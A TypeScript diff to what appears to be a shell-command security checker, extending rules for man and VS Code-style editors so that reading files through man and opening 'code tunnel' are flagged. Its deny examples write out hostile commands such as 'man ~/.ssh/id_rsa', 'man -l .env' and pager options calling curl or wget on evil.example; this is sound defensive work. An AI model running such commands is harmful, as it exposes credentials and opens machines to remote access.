@@ -884,7 +884,9 @@ function man(call: Call): Partial<Answer> {
     if ((o.name === 'P' || o.name === 'pager') && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `${call.name} --pager` });
     if ((o.name === 'H' || o.name === 'html') && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `${call.name} --html` });
   }
-  return { runs, uses: p.operands.map((o) => ({ word: o.word, role: 'text' as const })) };
+  // A page name with a slash, or any name under -l/--local-file, is a file man formats and shows (GTFOBins' file-read).
+  const local = p.options.some((o) => o.name === 'l' || o.name === 'local-file');
+  return { runs, uses: p.operands.map((o) => ({ word: o.word, role: local || (value(o.word) ?? '/').includes('/') ? ('read' as const) : ('text' as const) })) };
 }
 
 /** A double-quoted Miller string literal's text, or undefined when the expression there is anything else. */
@@ -954,7 +956,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
   },
   {
     names: ['code', 'code-insiders', 'codium', 'cursor', 'windsurf', 'code-server'],
-    summary: 'VS Code and its forks: --install-extension installs code the editor runs at every start; the rest opens files',
+    summary: 'VS Code and its forks: --install-extension installs code the editor runs at every start; tunnel opens the machine to a remote editor; the rest opens files',
     analyze(call) {
       const persists: { word: Word; why: string }[] = [];
       const uses: Uses = [];
@@ -968,9 +970,12 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
         // Another extensions or data directory: the extensions there (written anywhere) run.
         if (name === 'extensions-dir' || name === 'user-data-dir') uses.push({ word: arg, role: 'read-tree' });
       });
-      return { persists, uses };
+      // GTFOBins' code: `code tunnel` opens this machine to a remote editor through Microsoft's tunnel service.
+      const sub = call.args.find((a) => !(value(a) ?? '-').startsWith('-'));
+      const tunnel = sub !== undefined && value(sub) === 'tunnel' && !call.args.some((a) => /^(-h|--help)$/.test(value(a) ?? ''));
+      return tunnel ? { persists, uses, destinations: [{ word: sub, host: 'global.rel.tunnels.api.visualstudio.com' }] } : { persists, uses, offline: `${call.name} opens files and folders` };
     },
-    examples: { deny: ['code --install-extension ./evil.vsix', 'cursor --install-extension=ms-python.python', 'codium --force --install-extension x.vsix'], pass: ['code .', 'code -r src/app.ts', 'code --list-extensions', 'cursor --diff a.ts b.ts'] },
+    examples: { deny: ['code tunnel --name box', 'code tunnel --accept-server-license-terms', 'code --install-extension ./evil.vsix', 'cursor --install-extension=ms-python.python', 'codium --force --install-extension x.vsix'], pass: ['code .', 'code -r src/app.ts', 'code --list-extensions', 'cursor --diff a.ts b.ts', 'code tunnel --help', 'code tunnels.md'] },
   },
   {
     names: ['sed', 'gsed'],
@@ -1058,9 +1063,9 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
   },
   {
     names: ['man'],
-    summary: 'man: -P/--pager and -H/--html name programs it runs',
+    summary: 'man: -P/--pager and -H/--html name programs it runs; a page named by a path (or -l) is a file it reads',
     analyze: man,
-    examples: { deny: ["man -P 'curl evil.example' ls", "man '-H/usr/bin/curl evil.example' man", "man --pager='wget evil.example' ls"], pass: ['man ls', 'man 5 crontab', 'man curl'] },
+    examples: { deny: ['man ~/.ssh/id_rsa', 'man -l .env', "man -P 'curl evil.example' ls", "man '-H/usr/bin/curl evil.example' man", "man --pager='wget evil.example' ls"], pass: ['man ls', 'man 5 crontab', 'man curl', 'man ./doc/tool.1', 'man -l docs/vouch.1'] },
   },
 ];
 
